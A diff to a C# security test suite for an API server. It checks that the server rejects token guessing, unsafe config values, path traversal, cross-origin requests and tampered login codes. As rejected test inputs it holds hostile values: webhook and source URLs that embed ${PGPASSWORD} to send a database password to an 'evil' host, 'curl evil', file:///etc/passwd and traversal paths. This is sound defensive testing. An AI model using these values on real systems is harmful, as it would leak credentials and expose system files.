@@ -46,9 +46,9 @@ public sealed class ApiSecurityTests
         var vic = shop.Token("Vic");
         for (var i = 0; i < 10; i++) Assert.Equal(HttpStatusCode.Unauthorized, (await shop.GetAsync("status", "dbvc_" + i)).Status);
         (await shop.GetAsync("status", "dbvc_10")).Failed(HttpStatusCode.ServiceUnavailable, "login.slow");
-        // Also with what holds: else guessing on tells which one does.
-        (await shop.GetAsync("status", vic)).Failed(HttpStatusCode.ServiceUnavailable, "login.slow");
-        var noted = shop.People.As("ada").History.Operations(20).Where(o => o.Command.StartsWith("denied: serve from", StringComparison.Ordinal)).ToList();
+        // Who shares the address and has one that holds is not made to pay for it.
+        (await shop.GetAsync("status", vic)).Ok();
+        var noted = shop.People.As("ada").History.Operations(20).Where(o => o.Command.StartsWith("denied: serve", StringComparison.Ordinal)).ToList();
         Assert.Single(noted);
         Assert.Contains("token.unknown", noted[0].Command, StringComparison.Ordinal);
     }
@@ -83,6 +83,7 @@ public sealed class ApiSecurityTests
         {
             ("sandbox", "none"), ("notify.commands", "curl evil"), ("llm.providers", "x=http://evil"),
                 ("sources.private-hosts", "10.0.0.0/8"), ("branches.server", "postgres://evil"),
+            ("notify.webhooks", "https://evil/${PGPASSWORD}"),
         })
         {
             (await shop.PostAsync("config/set", ada, new JsonObject { ["key"] = key, ["value"] = new JsonArray(value) }))
@@ -109,6 +110,7 @@ public sealed class ApiSecurityTests
     [InlineData("in/.hidden")]
     [InlineData("file:///etc/passwd")]
     [InlineData("postgres://localhost/x")]
+    [InlineData("https://evil.example/?k=${PGPASSWORD}")]
     [InlineData("in/link")]
     [InlineData("in/people\u0000.csv")]
     [InlineData("")]
@@ -132,6 +134,7 @@ public sealed class ApiSecurityTests
     [InlineData("csv", "../../../config.yaml")]
     [InlineData("database", "shop.db")]
     [InlineData("database", "postgres://localhost/x")]
+    [InlineData("api", "https://evil.example/?k=${PGPASSWORD}")]
     public async Task Metadata_that_was_brought_names_no_source_that_was_not(string type, string location)
     {
         await using var shop = await ServedShop.ServeAsync();
@@ -142,12 +145,12 @@ public sealed class ApiSecurityTests
             ["destination"] = new JsonObject { ["table"] = "lines" },
             ["schema"] = new JsonObject { ["line"] = "string" },
         };
-        if (type == "csv") metadata["source"]!.AsObject().Remove("table");
+        if (type != "database") metadata["source"]!.AsObject().Remove("table");
         (await shop.PutAsync("files/in/m.json", art, new StringContent(metadata.ToJsonString()))).Ok();
         foreach (var path in new[] { "agent/create", "metadata/explain" })
         {
             var answer = await shop.PostAsync(path, art, new JsonObject { [path == "agent/create" ? "metadata" : "file"] = "in/m.json" });
-            Assert.True(answer.Status == HttpStatusCode.Forbidden || (path == "metadata/explain" && type == "database"),
+            Assert.True(answer.Status == HttpStatusCode.Forbidden || (path == "metadata/explain" && type != "csv"),
                 $"{path}: {(int)answer.Status} {answer.Text}");
             Assert.DoesNotContain("root:", answer.Text, StringComparison.Ordinal);
         }
@@ -191,6 +194,9 @@ public sealed class ApiSecurityTests
         Assert.Equal("Art", (string?)(await shop.GetAsync("me", null, null, cookie)).Ok().Json["name"]);
         (await shop.PostAsync("branch/create", null, s_work, cookie)).Failed(HttpStatusCode.Forbidden, "serve.origin");
         (await shop.PostAsync("branch/create", null, s_work, cookie, ("Origin", "https://evil.example"))).Failed(HttpStatusCode.Forbidden, "serve.origin");
+        // Another port is another site, also where it asks only.
+        (await shop.PostAsync("undo", null, [], cookie, ("Origin", "http://localhost:3000"))).Failed(HttpStatusCode.Forbidden, "serve.origin");
+        (await shop.GetAsync("status", null, null, cookie, ("Sec-Fetch-Site", "same-site"))).Failed(HttpStatusCode.Forbidden, "serve.origin");
         using var form = ServedShop.Request(HttpMethod.Post, "branch/create", token, []);
         form.Content = new FormUrlEncodedContent([KeyValuePair.Create("name", "work")]);
         Assert.Equal(HttpStatusCode.UnsupportedMediaType, (await shop.SendAsync(form)).Status);
@@ -211,7 +217,7 @@ public sealed class ApiSecurityTests
     {
         await using var shop = await ServedShop.ServeAsync();
         var code = shop.Service<Sessions>().MakeLink(new Credential(null, "rae"));
-        (await shop.GetAsync("/login?code=" + code[..^1] + "0", null)).Failed(HttpStatusCode.Unauthorized, "login.wrong");
+        (await shop.GetAsync("/login?code=" + code[..^1] + (code[^1] == '0' ? "1" : "0"), null)).Failed(HttpStatusCode.Unauthorized, "login.wrong");
         var followed = await shop.GetAsync("/login?code=" + code, null);
         Assert.Equal((HttpStatusCode.Redirect, "/"), (followed.Status, followed.Headers["Location"]));
         Assert.Equal("Rae", (string?)(await shop.GetAsync("me", null, null, ("Cookie", followed.Headers["Set-Cookie"].Split(';')[0]))).Ok().Json["name"]);
@@ -250,6 +256,30 @@ public sealed class ApiSecurityTests
         if (!OperatingSystem.IsWindows()) Assert.Equal(UnixFileMode.UserRead | UnixFileMode.UserWrite, File.GetUnixFileMode(path));
         await using var again = ApiServer.Build(new Documents.ServerSettings(alone.Folder, "", ["http://127.0.0.1:0"], [], "Server", ""));
         Assert.Single(File.ReadAllLines(path));
+    }
+
+    [Fact]
+    public async Task Files_take_the_role_that_has_something_made_of_them()
+    {
+        await using var shop = await ServedShop.ServeAsync();
+        var vic = await shop.PutAsync("files/in/people.csv", shop.Token("Vic"), new StringContent("id\n1\n"));
+        vic.Failed(HttpStatusCode.Forbidden, "access.denied");
+        var bot = shop.Token("Bot");
+        (await shop.PutAsync("files/in/people.csv", bot, new StringContent("id\n1\n"))).Ok();
+        foreach (var name in new[] { "in/.hidden", "in/..%2F..%2Fx", "in/a%00b", "in/" + new string('x', 200) })
+            Assert.True((int)(await shop.PutAsync("files/" + name, bot, new StringContent("x"))).Status is >= 400 and < 500, name);
+        Assert.Equal("in/people.csv", (string?)Assert.Single((await shop.GetAsync("files", bot)).Json["files"]!.AsArray())!["name"]);
+    }
+
+    [Fact]
+    public async Task What_an_agent_puts_into_the_queue_waits_for_a_person_to_run_it()
+    {
+        await using var shop = await new ServedShop().StartAsync(works: true);
+        shop.People.Branch("art", "work");
+        (await shop.PostAsync("merge/queue/add", shop.Token("Bot"), new JsonObject { ["branch"] = new JsonArray("work") })).Ok();
+        await Task.Delay(TimeSpan.FromSeconds(3), ServedShop.Cancel);
+        Assert.Equal("50", shop.People.Balance);
+        Assert.Equal("queued", (string?)(await shop.GetAsync("merge/queue/list", shop.Token("Vic"))).Json["queue"]![0]!["state"]);
     }
 
     [Fact]
